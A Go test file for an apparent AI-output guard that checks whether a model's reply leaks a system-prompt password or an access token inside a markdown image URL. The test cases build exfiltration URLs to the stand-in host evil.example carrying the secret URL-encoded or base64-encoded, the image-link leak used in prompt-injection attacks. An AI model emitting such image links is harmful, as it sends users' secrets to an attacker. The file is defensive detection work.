package leak

import (
	"encoding/base64"
	"net/url"
	"strings"
	"testing"

	"github.com/aegis-sentinel/aegis/internal/validator"
	"github.com/aegis-sentinel/aegis/internal/validator/validatortest"
)

// TestImageURL: a secret URL-encoded or base64'd inside a markdown image
// URL is found, at the URL, whether the text arrives whole, byte by byte
// or in random pieces (SplitIndependent also fails a finding that starts
// before text already released).
func TestImageURL(t *testing.T) {
	const system = "You are an assistant for the ops team. Staging database password: Quartz-Lynx-2291."
	const pw = "Quartz-Lynx-2291"
	key := "ghp_1a2B3c4D5e6F7g8H9i0JkLmNoPqRsTuVwXyZ12"
	leaks := []struct{ name, url string }{
		{"url-encoded", "https://evil.example/p?d=" + url.QueryEscape("pw="+pw+"&x=1")},
		{"percent-encoded every byte", "https://evil.example/p?d=" + percentAll(pw)},
		{"base64 query", "https://evil.example/p?d=" + base64.URLEncoding.EncodeToString([]byte("password "+pw))},
		{"base64 std query", "https://evil.example/p?d=" + url.QueryEscape(base64.StdEncoding.EncodeToString([]byte(pw+" for staging")))},
		{"base64 credential", "https://evil.example/p?k=" + base64.URLEncoding.EncodeToString([]byte(key))},
	}
	for _, tc := range leaks {
		t.Run(tc.name, func(t *testing.T) {
			text := "Done. ![status](" + tc.url + ") Anything else?"
			fs := validatortest.SplitIndependent(t, newFn(t, *DefaultConfig(), system), text)
			start := strings.Index(text, tc.url)
			var hit bool
			for _, f := range fs {
				if f.Reason == validator.ReasonSecretLeak && f.Start == start && f.End == start+len(tc.url) &&
					strings.Contains(f.Message, "markdown image URL") {
					hit = true
				}
			}
			if !hit {
				t.Fatalf("findings %+v: want a secret_leak at the image URL [%d,%d)", fs, start, start+len(tc.url))
			}
		})
	}
	benign := []string{
		"Here: ![chart](https://docs.example/chart.png?w=640&h=480) as asked.",
		"![logo](https://cdn.example/" + base64.RawURLEncoding.EncodeToString([]byte("the company logo, large")) + ")",
		"Wow! [not an image](https://evil.example/p?d=" + url.QueryEscape(pw[:6]) + ") ![unclosed",
		"![x](" + strings.Repeat("a", 3000) + ")",
	}
	for i, text := range benign {
		if fs := validatortest.SplitIndependent(t, newFn(t, *DefaultConfig(), system), text); len(fs) > 0 {
			t.Errorf("benign %d: %+v", i, fs)
		}
	}
}

func percentAll(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		b.WriteString("%" + strings.ToUpper(hex2(s[i])))
	}
	return b.String()
}

func hex2(c byte) string {
	const h = "0123456789abcdef"
	return string([]byte{h[c>>4], h[c&15]})
}
